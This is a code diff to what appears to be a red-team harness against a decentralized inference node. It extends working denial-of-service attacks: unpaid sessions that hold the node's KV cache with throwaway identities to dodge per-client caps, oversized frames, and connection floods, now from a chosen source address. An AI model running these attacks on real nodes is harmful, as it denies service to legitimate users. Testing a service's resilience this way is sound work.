@@ -110,6 +110,8 @@ class Target:
     node_direct: str  # HOST:PORT of its direct lane ("" if none)
     victim_address: str  # the honest client's Ethereum address (it is in every open the client sends)
     node_eth: str = ""  # the node's receipt address (announced): what a signed open names
+    source_host: str = ""  # local address the attacker's TCP connections come from ("" = any): on loopback, another
+    # 127.x address than the honest client's stands for another host
     options: dict = field(default_factory=dict)
 
     @property
@@ -164,9 +166,10 @@ class RawStream:
         self.reader, self.writer = reader, writer
 
     @classmethod
-    async def direct(cls, address: str, rpc: str = RPC_INFERENCE) -> RawStream:
+    async def direct(cls, address: str, rpc: str = RPC_INFERENCE, *, source: str = "") -> RawStream:
         host, _, port = address.rpartition(":")
-        reader, writer = await asyncio.open_connection(host.strip("[]"), int(port))
+        local = (source, 0) if source else None
+        reader, writer = await asyncio.open_connection(host.strip("[]"), int(port), local_addr=local)
         hello = MSGPackSerializer.dumps({"rpc": rpc})
         writer.write(len(hello).to_bytes(HEADER_LEN, "big") + hello)
         await writer.drain()
@@ -406,7 +409,7 @@ class SpendSteps(Attack):
                 await asyncio.sleep(0.5)
 
     async def _session(self) -> None:
-        stream = await RawStream.direct(self.target.node_direct)
+        stream = await RawStream.direct(self.target.node_direct, source=self.target.source_host)
         try:
             session_id = secrets.token_bytes(16)
             address, key = self.identity()
@@ -501,7 +504,7 @@ class OversizeFrames(Attack):
         await asyncio.Event().wait()  # hold the connections until stopped
 
     async def _direct(self) -> RawStream:
-        return await RawStream.direct(self.target.node_direct)
+        return await RawStream.direct(self.target.node_direct, source=self.target.source_host)
 
     async def _p2p(self) -> RawStream:
         return await RawStream.p2p(self.p2p, PeerID.from_base58(self.target.node_peer_id))
@@ -534,9 +537,19 @@ class OversizeFrames(Attack):
             stream.close()
 
 
+@dataclass
+class HeldSession:
+    stream: RawStream
+    session_id: bytes
+    tokens: int
+    lost: str | None = None  # why the node ended it
+    watcher: asyncio.Task | None = None
+
+
 class CacheHolding(Attack):
     """Opens sessions (no step, no payment) until the node's KV cache is full, each as large as it still allows,
-    and keeps every one alive with a ``flush`` every ``keepalive`` s."""
+    keeps every one alive with a ``flush`` every ``keepalive`` s, and opens new ones as the node ends any (a node
+    that releases idle sessions whatever is flushed only makes the attacker reopen)."""
 
     name = "cache"
     description = "sessions opened with no step, held with a flush every few seconds, as many as the node allows"
@@ -544,10 +557,10 @@ class CacheHolding(Attack):
     def __init__(self, target: Target, *, keepalive: float = 3.0, max_sessions: int = 64, **kwargs):
         super().__init__(target, **kwargs)
         self.keepalive, self.max_sessions = keepalive, max_sessions
-        self.held: list[tuple[RawStream, bytes]] = []
+        self.held: list[HeldSession] = []
 
-    async def _open(self, max_length: int, batch: int) -> tuple[RawStream, bytes] | str:
-        stream = await RawStream.direct(self.target.node_direct)
+    async def _open(self, max_length: int, batch: int) -> HeldSession | str:
+        stream = await RawStream.direct(self.target.node_direct, source=self.target.source_host)
         session_id = secrets.token_bytes(16)
         account = Account.create()  # a throwaway identity per session: per-client caps see a new client each time
         opening = {
@@ -570,47 +583,73 @@ class CacheHolding(Attack):
         if error is not None:
             stream.close()
             return error
-        return stream, session_id
+        held = HeldSession(stream, session_id, max_length * batch)
+        held.watcher = asyncio.create_task(self._watch(held))
+        return held
 
-    async def attack(self) -> None:
+    @staticmethod
+    async def _watch(held: HeldSession) -> None:
+        """Reads what the node sends on a held session: an error or the end of the stream means it is gone."""
+        try:
+            while True:
+                _, error = await read_reply(held.stream.reader)
+                if error is not None:
+                    held.lost = short(error, 120)
+                    return
+        except Exception as e:
+            held.lost = short(e, 120) or "closed by the node"
+
+    async def _fill(self) -> None:
         max_length, batch = 8192, 64
         while len(self.held) < self.max_sessions:
-            opened = await self._open(max_length, batch)
+            try:
+                opened = await self._open(max_length, batch)
+            except OSError as e:
+                opened = short(e)
             if isinstance(opened, str):
                 if "cache_full" not in opened and "too_large" not in opened:
+                    self.count("opens_refused")
                     self.refused(opened)
-                    break
-                self.count("opens_refused")
+                    return  # try again next round
                 if batch > 1:
                     batch //= 2
                 elif max_length > 16:
                     max_length //= 2
                 else:
                     self.stats["last_refusal"] = short(opened)
-                    break  # not even a 16-token session fits: the cache is held
+                    return  # not even a 16-token session fits: the cache is held
                 continue
             self.held.append(opened)
-            self.count("tokens_reserved", max_length * batch)
-        self.stats["sessions_held"] = len(self.held)
+            self.count("sessions_opened")
+        self.stats["tokens_held"] = sum(h.tokens for h in self.held)
+
+    async def attack(self) -> None:
         while True:
+            await self._fill()
+            self.stats["sessions_held"] = len(self.held)
+            self.stats["sessions_held_max"] = max(self.stats.get("sessions_held_max", 0), len(self.held))
             await asyncio.sleep(self.keepalive)
             alive = []
-            for stream, session_id in self.held:
-                try:
-                    await stream.send(request({"type": "flush", "session_id": session_id}))
-                    if stream.reader.at_eof():
-                        raise ConnectionError("closed by the node")
-                    alive.append((stream, session_id))
-                    self.count("flushes")
-                except Exception as e:
-                    self.refused(f"flush: {short(e)}")
-                    stream.close()
+            for held in self.held:
+                if held.lost is None:
+                    try:
+                        await held.stream.send(request({"type": "flush", "session_id": held.session_id}))
+                        self.count("flushes")
+                    except Exception as e:
+                        held.lost = short(e, 120)
+                if held.lost is None:
+                    alive.append(held)
+                else:
+                    self.count("sessions_lost")  # the node ended it: reopen (next round)
+                    self.stats["last_loss"] = held.lost
+                    held.stream.close()
             self.held = alive
-            self.stats["sessions_held"] = len(alive)
 
     async def cleanup(self) -> None:
-        for stream, _ in self.held:
-            stream.close()
+        for held in self.held:
+            held.stream.close()
+            if held.watcher is not None:
+                held.watcher.cancel()
 
 
 class ConnectionFlood(Attack):
@@ -628,7 +667,9 @@ class ConnectionFlood(Attack):
     async def _hold(self) -> None:
         while True:
             try:
-                stream = await asyncio.wait_for(RawStream.direct(self.target.node_direct), 10)
+                stream = await asyncio.wait_for(
+                    RawStream.direct(self.target.node_direct, source=self.target.source_host), 10
+                )
             except Exception as e:
                 self.count("connects_failed")
                 self.refused(e)
